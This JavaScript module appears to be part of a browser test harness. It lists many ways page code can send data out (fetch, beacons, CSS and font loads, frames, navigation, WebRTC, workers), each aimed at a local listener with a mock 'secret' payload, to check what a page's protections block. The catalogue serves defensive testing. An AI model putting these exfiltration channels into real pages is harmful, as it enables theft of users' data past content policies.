// Every way known to us in which code inside a page can make a browser send something, as one function each, to be run in the page itself: `to` says where
// (http, https, ws, host, port, udpPort), `said` is what a thief would send. `leaves: true` marks those after which the page is gone. `threads` run in workers.
//
// `control` says from where the attempt reaches a listener when nothing protects the page, as measured in Debian's Chromium: 'both', 'http' (a page from
// file:// may not), or 'none' (this browser, headless and without a user, does nothing; the attempt is kept, because another one may).
const attempt = (control, run, more = {}) => ({ control, run, ...more });

// Helpers that the functions share are sent along with them (see `source`).
function put(tag, values = {}, parent = document.body) {
  const element = document.createElement(tag);
  for (const [name, value] of Object.entries(values)) {
    try {
      element.setAttribute(name, value);
    } catch {
      element[name] = value;
    }
  }
  parent.append(element);
  return element;
}
function putSvg(tag, values, parent) {
  const element = document.createElementNS('http://www.w3.org/2000/svg', tag);
  for (const [name, value] of Object.entries(values)) element.setAttribute(name, value);
  (parent ?? putSvg('svg', { width: 20, height: 20 }, document.body)).append(element);
  return element;
}
function style(text) {
  const element = document.createElement('style');
  element.textContent = text;
  document.head.append(element);
}
function blobOf(text, type) {
  return URL.createObjectURL(new Blob([text], { type }));
}
function workerFrom(text) {
  return new Worker(blobOf(text, 'text/javascript'));
}
function peer(servers, Peer = globalThis.RTCPeerConnection) {
  const one = new Peer({ iceServers: servers, iceTransportPolicy: 'all' });
  one.createDataChannel('out');
  return one.createOffer().then((offer) => one.setLocalDescription(offer));
}
function submit(values, method = 'post') {
  const form = put('form', { method, ...values });
  put('input', { name: 's', value: 'secret' }, form);
  form.submit();
}
export const helpers = [put, putSvg, style, blobOf, workerFrom, peer, submit];

export const attempts = {
  // Requests that scripts make.
  fetch: attempt('both', (to, said) => fetch(`${to.http}?${said}`, { mode: 'no-cors' })),
  fetch_post: attempt('both', (to, said) => fetch(to.http, { method: 'POST', mode: 'no-cors', body: said })),
  fetch_keepalive: attempt('both', (to, said) => fetch(to.http, { method: 'POST', mode: 'no-cors', keepalive: true, body: said })),
  fetch_later: attempt('both', (to, said) => fetchLater(`${to.https}?${said}`, { activateAfter: 0 })),
  xhr: attempt('both', (to, said) => { const request = new XMLHttpRequest(); request.open('POST', to.http); request.send(said); }),
  xhr_synchronous: attempt('both', (to, said) => { const request = new XMLHttpRequest(); request.open('POST', to.http, false); request.send(said); }),
  beacon: attempt('both', (to, said) => navigator.sendBeacon(to.http, said)),
  event_source: attempt('both', (to, said) => new EventSource(`${to.http}?${said}`)),
  web_socket: attempt('both', (to, said) => new WebSocket(`${to.ws}?${said}`)),
  web_socket_stream: attempt('both', (to, said) => new WebSocketStream(`${to.ws}?${said}`)),
  web_transport: attempt('both', (to) => new WebTransport(`https://${to.host}:${to.udpPort}/`).ready),
  web_transport_address: attempt('both', (to) => new WebTransport(`https://127.0.0.1:${to.udpPort}/`).ready),
  payment_manifest: attempt('both', (to) => new PaymentRequest([{ supportedMethods: to.https }], { total: { label: 'x', amount: { currency: 'CNY', value: '1' } } }).canMakePayment()),
  identity_provider: attempt('both', (to) => navigator.credentials.get({ identity: { providers: [{ configURL: to.https, clientId: 'x' }] } })),

  // Pictures, sounds, letters.
  image: attempt('both', (to, said) => { new Image().src = `${to.http}?${said}`; }),
  image_srcset: attempt('both', (to) => put('img', { srcset: `${to.http} 1x, ${to.http} 2x` })),
  picture: attempt('both', (to) => { const picture = put('picture'); put('source', { srcset: to.http }, picture); put('img', {}, picture); }),
  input_image: attempt('both', (to) => put('input', { type: 'image', src: to.http })),
  image_attribution: attempt('both', (to) => put('img', { attributionsrc: to.http, src: to.http })),
  svg_image: attempt('both', (to) => putSvg('image', { href: to.http, width: 10, height: 10 })),
  svg_use: attempt('none', (to) => putSvg('use', { href: `${to.http}.svg#a` })),
  svg_filter_image: attempt('both', (to) => { const filter = putSvg('filter', { id: 'f' }); putSvg('feImage', { href: to.http }, filter); putSvg('rect', { width: 9, height: 9, filter: 'url(#f)' }, filter.parentNode); }),
  svg_in_blob: attempt('none', (to) => put('img', { src: blobOf(`<svg xmlns="http://www.w3.org/2000/svg"><image href="${to.http}"/></svg>`, 'image/svg+xml') })),
  css_background: attempt('both', (to) => { put('p').style.backgroundImage = `url(${to.http})`; }),
  css_attribute: attempt('both', (to) => put('p', { style: `background:url(${to.http})` })),
  css_image_set: attempt('both', (to) => { put('p').style.backgroundImage = `image-set(url(${to.http}) 1x)`; }),
  css_rule: attempt('both', (to) => style(`html{border-image:url(${to.http}) 1}`)),
  css_list_and_content: attempt('both', (to) => style(`body::before{content:url(${to.http})}`)),
  css_import: attempt('both', (to) => style(`@import url(${to.http}.css);`)),
  css_font: attempt('both', (to) => { style(`@font-face{font-family:leak;src:url(${to.http})}`); const p = put('p'); p.textContent = '字'; p.style.fontFamily = 'leak'; }),
  css_adopted_sheet: attempt('both', (to) => { const sheet = new CSSStyleSheet(); sheet.replaceSync(`body::after{content:url(${to.http})}`); document.adoptedStyleSheets = [sheet]; }),
  css_variable_by_selector: attempt('both', (to) => { put('input', { value: 'secret', id: 'v' }); style(`#v[value^="s"]{background:url(${to.http}?s)}`); }),
  font_face: attempt('both', (to) => new FontFace('leak', `url(${to.http})`).load()),
  paint_worklet: attempt('both', (to) => CSS.paintWorklet.addModule(`${to.http}.js`)),
  audio_worklet: attempt('both', (to) => new OfflineAudioContext(1, 1, 44100).audioWorklet.addModule(`${to.http}.js`)),
  audio: attempt('both', (to) => put('audio', { src: to.http, preload: 'auto' })),
  video: attempt('both', (to) => put('video', { src: to.http, preload: 'auto' })),
  video_poster: attempt('both', (to) => put('video', { poster: to.http })),
  video_track: attempt('both', (to) => { const video = put('video', { crossorigin: 'anonymous' }); put('track', { src: to.http, default: '', kind: 'subtitles' }, video).track.mode = 'showing'; }),

  // Links that a browser follows by itself.
  link_stylesheet: attempt('both', (to) => put('link', { rel: 'stylesheet', href: `${to.http}.css` }, document.head)),
  link_icon: attempt('both', (to) => put('link', { rel: 'icon', href: to.http }, document.head)),
  link_preload: attempt('both', (to) => put('link', { rel: 'preload', as: 'image', href: to.http }, document.head)),
  link_modulepreload: attempt('both', (to) => put('link', { rel: 'modulepreload', href: `${to.http}.js` }, document.head)),
  link_prefetch: attempt('both', (to) => put('link', { rel: 'prefetch', href: to.http }, document.head)),
  link_preconnect: attempt('none', (to) => put('link', { rel: 'preconnect', href: to.http }, document.head)),
  link_dns_prefetch: attempt('none', (to) => put('link', { rel: 'dns-prefetch', href: to.http }, document.head)),
  link_prerender: attempt('none', (to) => put('link', { rel: 'prerender', href: to.http }, document.head)),
  link_manifest: attempt('none', (to) => put('link', { rel: 'manifest', href: `${to.http}.json` }, document.head)),
  link_dictionary: attempt('both', (to) => put('link', { rel: 'compression-dictionary', href: to.http }, document.head)),
  speculation_rules: attempt('both', (to) => { const script = document.createElement('script'); script.type = 'speculationrules'; script.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [to.https], eagerness: 'immediate' }], prerender: [{ source: 'list', urls: [to.https] }] }); document.head.append(script); }),

  // Text that becomes code, and code from elsewhere.
  script_src: attempt('both', (to) => { const script = document.createElement('script'); script.src = `${to.http}.js`; document.head.append(script); }),
  script_module: attempt('both', (to) => { const script = document.createElement('script'); script.type = 'module'; script.src = `${to.http}.js`; document.head.append(script); }),
  script_inline: attempt('both', (to) => { const script = document.createElement('script'); script.text = `fetch('${to.http}',{mode:'no-cors'})`; document.head.append(script); }),
  script_svg: attempt('both', (to) => putSvg('script', { href: `${to.http}.js` })),
  import_dynamic: attempt('both', (to) => import(`${to.http}.js`)),
  import_map: attempt('both', (to) => { const script = document.createElement('script'); script.type = 'importmap'; script.textContent = JSON.stringify({ imports: { leak: `${to.http}.js` } }); document.head.append(script); return import('leak'); }),
  inner_html: attempt('both', (to) => { put('div').innerHTML = `<img src="${to.http}">`; }),
  inner_html_unsafe: attempt('both', (to) => put('div').setHTMLUnsafe(`<img src="${to.http}">`)),
  document_write: attempt('both', (to) => { document.open(); document.write(`<img src="${to.http}">`); document.close(); }, { leaves: true }),
  parsed_fragment: attempt('both', (to) => document.body.append(document.createRange().createContextualFragment(`<img src="${to.http}">`))),
  handler_attribute: attempt('both', (to) => { const image = put('img'); image.setAttribute('onerror', `fetch('${to.http}',{mode:'no-cors'})`); image.src = 'data:,'; }),
  javascript_address: attempt('both', (to) => put('a', { href: `javascript:void fetch('${to.http}',{mode:'no-cors'})` }).click()),
  javascript_frame: attempt('both', (to) => put('iframe', { src: `javascript:void fetch('${to.http}',{mode:'no-cors'})` })),
  eval: attempt('both', (to) => (0, eval)(`fetch('${to.http}',{mode:'no-cors'})`)),
  new_function: attempt('both', (to) => new Function(`fetch('${to.http}',{mode:'no-cors'})`)()),
  string_timer: attempt('both', (to) => setTimeout(`fetch('${to.http}',{mode:'no-cors'})`, 0)),
  xslt: attempt('none', (to) => { const sheet = new DOMParser().parseFromString(`<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:import href="${to.http}"/><xsl:template match="/"><p><xsl:value-of select="document('${to.http}')"/></p></xsl:template></xsl:stylesheet>`, 'text/xml'); const work = new XSLTProcessor(); work.importStylesheet(sheet); document.body.append(work.transformToFragment(sheet, document)); }),
  xml_external: attempt('none', (to) => new DOMParser().parseFromString(`<!DOCTYPE a SYSTEM "${to.http}" [<!ENTITY x SYSTEM "${to.http}">]><a>&x;</a>`, 'text/xml')),
  xml_style_frame: attempt('none', (to) => put('iframe', { src: blobOf(`<?xml-stylesheet type="text/xsl" href="${to.http}"?><a/>`, 'text/xml') })),

  // Frames and what is inside them.
  frame: attempt('both', (to, said) => put('iframe', { src: `${to.http}.html?${said}` })),
  frame_srcdoc: attempt('both', (to) => put('iframe', { srcdoc: `<img src="${to.http}">` })),
  frame_data: attempt('both', (to) => put('iframe', { src: `data:text/html,<img src="${to.http}">` })),
  frame_blob: attempt('both', (to) => put('iframe', { src: blobOf(`<img src="${to.http}">`, 'text/html') })),
  frame_realm: attempt('both', (to) => put('iframe').contentWindow.fetch(to.http, { mode: 'no-cors' })),
  frame_refresh: attempt('both', (to) => put('iframe', { srcdoc: `<meta http-equiv="refresh" content="0;url=${to.http}">` })),
  frame_without_policy: attempt('both', (to) => put('iframe', { csp: '', srcdoc: `<link rel="stylesheet" href="${to.http}">` })),
  fenced_frame: attempt('none', (to) => { put('fencedframe').config = new FencedFrameConfig(to.https); }),
  object: attempt('both', (to) => put('object', { data: `${to.http}.html`, type: 'text/html' })),
  embed: attempt('both', (to) => put('embed', { src: `${to.http}.html`, type: 'text/html' })),
  form_in_frame: attempt('both', (to) => { put('iframe', { name: 'sink' }); submit({ action: to.http, target: 'sink' }); }),

  // Going elsewhere.
  location: attempt('both', (to, said) => { location = `${to.http}?${said}`; }, { leaves: true }),
  location_replace: attempt('both', (to) => location.replace(to.http), { leaves: true }),
  location_top: attempt('both', (to) => { top.location.href = to.http; }, { leaves: true }),
  location_parent: attempt('both', (to) => { parent.location = to.http; }, { leaves: true }),
  navigation_api: attempt('both', (to) => navigation.navigate(to.http), { leaves: true }),
  form_get: attempt('both', (to) => submit({ action: to.http }, 'get'), { leaves: true }),
  form_post: attempt('both', (to) => submit({ action: to.http }), { leaves: true }),
  form_top: attempt('both', (to) => submit({ action: to.http, target: '_top' }), { leaves: true }),
  form_blank: attempt('both', (to) => submit({ action: to.http, target: '_blank' }), { leaves: true }),
  form_action_of_button: attempt('both', (to) => { const form = put('form', { action: '#' }); put('button', { formaction: to.http }, form).click(); }, { leaves: true }),
  meta_refresh: attempt('both', (to) => put('meta', { 'http-equiv': 'refresh', content: `0;url=${to.http}` }, document.head), { leaves: true }),
  base_address: attempt('both', (to) => { put('base', { href: `http://${to.host}:${to.port}/` }, document.head); new Image().src = 'base.png'; }, { leaves: true }),
  link_click: attempt('both', (to) => put('a', { href: to.http }).click(), { leaves: true }),
  link_top: attempt('both', (to) => put('a', { href: to.http, target: '_top' }).click(), { leaves: true }),
  link_blank: attempt('both', (to) => put('a', { href: to.http, target: '_blank' }).click(), { leaves: true }),
  link_ping: attempt('both', (to) => put('a', { href: '#here', ping: to.http }).click(), { leaves: true }),
  link_ping_leaving: attempt('both', (to) => put('a', { href: 'about:blank', ping: to.http }).click(), { leaves: true }),
  link_attribution: attempt('none', (to) => put('a', { href: '#here', attributionsrc: to.https }).click(), { leaves: true }),
  link_download: attempt('both', (to, said) => put('a', { href: `${to.http}?${said}`, download: 'x.csv' }).click(), { leaves: true }),
  area_click: attempt('both', (to) => { const map = put('map', { name: 'm' }); put('area', { href: to.http, shape: 'default' }, map).click(); }, { leaves: true }),
  svg_link: attempt('both', (to) => putSvg('a', { href: to.http }).dispatchEvent(new MouseEvent('click', { bubbles: true })), { leaves: true }),
  window_open: attempt('both', (to) => open(to.http), { leaves: true }),
  window_open_quiet: attempt('both', (to) => open(to.http, '_blank', 'noopener,noreferrer'), { leaves: true }),
  window_open_realm: attempt('both', (to) => open('about:blank').fetch(to.http, { mode: 'no-cors' }), { leaves: true }),
  window_open_top: attempt('both', (to) => open(to.http, '_top'), { leaves: true }),
  history_address: attempt('none', (to) => history.pushState(null, '', to.http)),
  policy_report: attempt('none', (to) => put('meta', { 'http-equiv': 'Content-Security-Policy', content: `img-src data:; report-uri ${to.http}; report-to leak` }, document.head) && put('img', { src: `${to.http}/x` })),
  reporting_endpoint: attempt('none', (to) => { put('meta', { 'http-equiv': 'Reporting-Endpoints', content: `default="${to.https}"` }, document.head); put('meta', { 'http-equiv': 'NEL', content: '{"report_to":"default","max_age":9}' }, document.head); }),
  speak: attempt('none', () => speechSynthesis.speak(new SpeechSynthesisUtterance('secret'))),
  presentation: attempt('none', (to) => new PresentationRequest(to.https).getAvailability()),

  // Connections that no content policy of this browser knows.
  webrtc_stun: attempt('both', (to) => peer([{ urls: `stun:127.0.0.1:${to.udpPort}` }])),
  webrtc_name: attempt('none', (to) => peer([{ urls: `stun:${to.host}:${to.udpPort}` }])),
  webrtc_turn: attempt('both', (to, said) => peer([{ urls: `turn:127.0.0.1:${to.port}?transport=tcp`, username: said, credential: said }])),
  webrtc_prefixed: attempt('both', (to) => peer([{ urls: `stun:127.0.0.1:${to.udpPort}` }], globalThis.webkitRTCPeerConnection)),
  webrtc_frame: attempt('both', (to) => peer([{ urls: `stun:127.0.0.1:${to.udpPort}` }], put('iframe').contentWindow.RTCPeerConnection)),
  webrtc_frame_script: attempt('both', (to) => put('iframe', { srcdoc: `<script>const p=new RTCPeerConnection({iceServers:[{urls:'stun:127.0.0.1:${to.udpPort}'}]});p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o))</script>` })),
  webrtc_prototype: attempt('both', (to) => peer([{ urls: `stun:127.0.0.1:${to.udpPort}` }], Object.getOwnPropertyDescriptor(globalThis, 'RTCPeerConnection').value)),

  // Threads.
  worker_src: attempt('none', (to) => new Worker(`${to.http}.js`)),
  worker_fetch: attempt('both', (to) => workerFrom(`fetch('${to.http}',{mode:'no-cors'})`)),
  worker_imports: attempt('both', (to) => workerFrom(`importScripts('${to.http}.js')`)),
  worker_nested: attempt('both', (to) => workerFrom(`const inner=new Worker(URL.createObjectURL(new Blob(["fetch('${to.http}',{mode:'no-cors'})"])))`)),
  worker_module: attempt('http', (to) => new Worker(blobOf(`import '${to.http}.js'`, 'text/javascript'), { type: 'module' })),
  worker_data: attempt('both', (to) => new Worker(`data:text/javascript,fetch('${to.http}',{mode:'no-cors'})`)),
  worker_shared: attempt('http', (to) => new SharedWorker(blobOf(`fetch('${to.http}',{mode:'no-cors'})`, 'text/javascript'))),
  worker_webrtc: attempt('none', (to) => workerFrom(`new RTCPeerConnection({iceServers:[{urls:'stun:127.0.0.1:${to.udpPort}'}]})`)),
  worker_transport: attempt('both', (to) => workerFrom(`new WebTransport('https://127.0.0.1:${to.udpPort}/')`)),
  service_worker: attempt('none', (to) => navigator.serviceWorker.register(`${to.http}.js`)),
};

// What code inside a running thread of the page can try.
export const threads = {
  fetch: attempt('both', (to, said) => fetch(`${to.http}?${said}`, { mode: 'no-cors' })),
  xhr: attempt('both', (to, said) => { const request = new XMLHttpRequest(); request.open('POST', to.http, false); request.send(said); }),
  web_socket: attempt('both', (to) => new WebSocket(to.ws)),
  event_source: attempt('both', (to) => new EventSource(to.http)),
  import_scripts: attempt('both', (to) => importScripts(`${to.http}.js`)),
  import_dynamic: attempt('both', (to) => import(`${to.http}.js`)),
  eval: attempt('both', (to) => (0, eval)(`fetch('${to.http}',{mode:'no-cors'})`)),
  nested: attempt('both', (to) => new Worker(URL.createObjectURL(new Blob([`fetch('${to.http}',{mode:'no-cors'})`])))),
  font: attempt('both', (to) => new FontFace('leak', `url(${to.http})`).load()),
  web_transport: attempt('both', (to) => new WebTransport(`https://127.0.0.1:${to.udpPort}/`).ready),
};

// The text that is evaluated in a page. The attempt runs in a task of its own: code that a debugger evaluates may do what the page's policy forbids
// (turn text into code, for one), and a task that it starts may not.
export function source({ run }, to) {
  return `new Promise((resolve) => setTimeout(async () => {
    ${helpers.join('\n')}
    try { await Promise.race([(${run})(${JSON.stringify(to)}, 'secret=4711'), new Promise((late) => setTimeout(late, 600))]); resolve('ran'); }
    catch (error) { resolve(String(error).slice(0, 200)); }
  }, 0))`;
}
